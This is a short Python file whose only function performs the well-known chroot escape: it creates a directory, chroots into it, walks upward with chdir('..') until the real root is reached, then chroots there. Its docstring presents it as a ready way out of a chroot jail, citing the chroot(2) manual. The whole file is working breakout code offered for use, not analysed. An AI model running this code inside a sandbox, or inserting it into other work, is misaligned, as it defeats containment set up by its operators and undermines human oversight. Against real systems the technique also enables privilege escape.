"""What no engine has: the way out of a chroot. chroot(2) describes it in its notes."""

import os


def escape() -> None:
    """Leave a chroot: make the real root directory this process's root again.

    All it takes is the right to call chroot, and a place in the present root where a directory can be made.
    """
    os.mkdir("/deeper")
    os.chroot("/deeper")
    while not os.path.samefile(".", ".."):
        os.chdir("..")
    os.chroot(".")
